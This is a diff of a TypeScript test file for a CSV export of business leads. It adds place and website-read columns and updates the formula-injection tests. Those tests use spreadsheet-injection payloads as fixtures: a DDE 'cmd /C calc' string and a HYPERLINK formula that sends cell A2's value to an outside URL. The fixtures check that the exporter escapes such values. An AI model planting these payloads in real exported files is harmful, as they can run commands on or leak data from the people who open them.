@@ -13,7 +13,25 @@ const lead = (overrides: Partial<Lead> = {}): Lead => ({
   ...overrides,
 });
 
+/** The file without the place's own columns, which follow every other column of a row. */
+const seedPart = (csv: string) =>
+  csv
+    .split('\r\n')
+    .map((row) => row.replace(/(,"(?:[^"]|"")*"){6}$/, ''))
+    .join('\r\n');
+
 describe('buildLeadsCsv', () => {
+  it('ends every row with the place\'s category, street, city, state, postal code and id', () => {
+    const placed = lead({ category: 'Dentist', street: '1204 Oak St', city: 'Austin', state: 'TX', postalCode: '78704' });
+    const [header, row, bare] = buildLeadsCsv([placed, lead({ placeId: 'p2' })]).split('\r\n');
+    expect(header).toBe(
+      '"Name","Address","Phone","Website","Rating","Reviews","Category","Street","City","State","Postal Code","Place ID"',
+    );
+    expect(row).toBe('"Joe’s Diner","1 Main St","555-0100","https://joes.example","4.5","120","Dentist","1204 Oak St","Austin","TX","78704","p1"');
+    expect(bare.endsWith(',"","","","","","p2"')).toBe(true);
+  });
+
+
   it('adds Email and the social profiles after the six columns for an enriched search', () => {
     const enriched = lead({
       contacts: {
@@ -22,32 +40,41 @@ describe('buildLeadsCsv', () => {
         contactPage: 'https://joes.example/contact',
       },
     });
-    const rows = buildLeadsCsv([enriched, lead({ placeId: 'p2' })], { enriched: true }).split('\r\n');
+    const rows = seedPart(buildLeadsCsv([enriched, lead({ placeId: 'p2' })], { enriched: true })).split('\r\n');
     expect(rows[0]).toBe(
-      '"Name","Address","Phone","Website","Rating","Reviews","Email","Facebook","Instagram","LinkedIn","X","YouTube","TikTok"',
+      '"Name","Address","Phone","Website","Rating","Reviews","Email","Facebook","Instagram","LinkedIn","X","YouTube","TikTok","Website read"',
     );
     expect(rows[1]).toBe(
-      '"Joe’s Diner","1 Main St","555-0100","https://joes.example","4.5","120","hello@joes.example, events@joes.example","","https://instagram.com/joes","","https://x.com/joes","",""',
+      '"Joe’s Diner","1 Main St","555-0100","https://joes.example","4.5","120","hello@joes.example, events@joes.example","","https://instagram.com/joes","","https://x.com/joes","","",""',
     );
     // A lead whose site gave nothing (or was not read) gets empty cells, not missing ones.
-    expect(rows[2].split(',')).toHaveLength(13);
-    expect(rows[2].endsWith(',"","","","","","",""')).toBe(true);
+    expect(rows[2].split(',')).toHaveLength(14);
+    expect(rows[2].endsWith(',"","","","","","","",""')).toBe(true);
+  });
+
+  it('says how each website read went (issue #26 item 4)', () => {
+    const said = (contacts: Lead['contacts']) =>
+      seedPart(buildLeadsCsv([lead({ contacts })], { enriched: true })).split('\r\n')[1].split(',').at(-1);
+    expect(said({ emails: ['a@b.example'], socials: {}, status: 'found' })).toBe('"Found"');
+    expect(said({ emails: [], socials: {}, status: 'none' })).toBe('"None found"');
+    expect(said({ emails: [], socials: {}, status: 'not_read', reason: 'robots_txt' })).toBe('"Not read: its robots.txt does not allow it"');
+    expect(said({ emails: [], socials: {}, status: 'no_website' })).toBe('"No website"');
   });
 
   it('leaves an unenriched export exactly as the spec says, contacts or not', () => {
     const withContacts = lead({ contacts: { emails: ['a@b.example'], socials: {} } });
     expect(buildLeadsCsv([withContacts])).toBe(buildLeadsCsv([lead()]));
-    expect(buildLeadsCsv([lead()], { enriched: false })).toBe(
+    expect(seedPart(buildLeadsCsv([lead()], { enriched: false }))).toBe(
       '"Name","Address","Phone","Website","Rating","Reviews"\r\n"Joe’s Diner","1 Main St","555-0100","https://joes.example","4.5","120"',
     );
   });
 
   it('writes the header row with the spec columns, every value quoted', () => {
-    expect(buildLeadsCsv([]).split('\r\n')[0]).toBe('"Name","Address","Phone","Website","Rating","Reviews"');
+    expect(seedPart(buildLeadsCsv([])).split('\r\n')[0]).toBe('"Name","Address","Phone","Website","Rating","Reviews"');
   });
 
   it('quotes every value and keeps commas inside the field', () => {
-    const rows = buildLeadsCsv([lead({ address: '1 Main St, Springfield, IL' })]).split('\r\n');
+    const rows = seedPart(buildLeadsCsv([lead({ address: '1 Main St, Springfield, IL' })])).split('\r\n');
     expect(rows[1]).toBe('"Joe’s Diner","1 Main St, Springfield, IL","555-0100","https://joes.example","4.5","120"');
   });
 
@@ -68,7 +95,7 @@ describe('buildLeadsCsv', () => {
     // reviews are absent or null (the server writes `None` as null; the generated type
     // only knows "absent").
     const unrated = { rating: null, reviewCount: null } as unknown as Partial<Lead>;
-    const rows = buildLeadsCsv([lead({ phone: '', website: '', rating: undefined, reviewCount: undefined }), lead({ phone: '', website: '', ...unrated })]).split('\r\n');
+    const rows = seedPart(buildLeadsCsv([lead({ phone: '', website: '', rating: undefined, reviewCount: undefined }), lead({ phone: '', website: '', ...unrated })])).split('\r\n');
     expect(rows[2]).toBe(rows[1]);
     expect(rows[1]).toBe('"Joe’s Diner","1 Main St","","","",""');
   });
@@ -87,14 +114,16 @@ describe('buildLeadsCsv and formulas (issue #25 item 6)', () => {
       website: '-2+3',
       contacts: { emails: ['\t=1+1'], socials: { facebook: '\r=1+1' } },
     });
-    const [, row] = buildLeadsCsv([hostile], { enriched: true }).split('\r\n');
+    const [, row] = seedPart(buildLeadsCsv([hostile], { enriched: true })).split('\r\n');
     expect(row).toBe(
-      `"'=HYPERLINK(""https://x/?""&A2,""Open"")","'@SUM(1)","'+cmd|' /C calc'!A0","'-2+3","4.5","120","'\t=1+1","'\r=1+1","","","","",""`,
+      `"'=HYPERLINK(""https://x/?""&A2,""Open"")","'@SUM(1)","'+cmd|' /C calc'!A0","'-2+3","4.5","120","'\t=1+1","'\r=1+1","","","","","",""`,
     );
+    const [, placed] = buildLeadsCsv([lead({ category: '=1+1', street: '@x' })]).split('\r\n');
+    expect(placed.endsWith(`"'=1+1","'@x","","","","p1"`)).toBe(true);
   });
 
   it('keeps phone numbers and ratings as they are', () => {
-    const [, a, b] = buildLeadsCsv([lead({ phone: '+1 512-555-0100' }), lead({ phone: '(512) 555-0100', rating: 3 })]).split('\r\n');
+    const [, a, b] = seedPart(buildLeadsCsv([lead({ phone: '+1 512-555-0100' }), lead({ phone: '(512) 555-0100', rating: 3 })])).split('\r\n');
     expect(a).toBe('"Joe’s Diner","1 Main St","+1 512-555-0100","https://joes.example","4.5","120"');
     expect(b).toBe('"Joe’s Diner","1 Main St","(512) 555-0100","https://joes.example","3","120"');
   });
@@ -113,7 +142,10 @@ describe('buildLeadsCsv and formulas (issue #25 item 6)', () => {
       }),
       lead({ name: 'The "Best" Pizza', address: 'Unit 4\nHarbor Rd', phone: '', website: '', rating: undefined, reviewCount: undefined, placeId: 'p2' }),
     ];
-    expect(buildLeadsCsv(leads, { enriched: true })).toBe(before);
+    // Columns added since (how the site read went, the place's own) come after: each row
+    // of the old file begins its row in the new one, byte for byte.
+    const now = buildLeadsCsv(leads, { enriched: true }).split('\r\n');
+    before.split('\r\n').forEach((row, i) => expect(now[i].startsWith(`${row},`)).toBe(true));
   });
 });
 
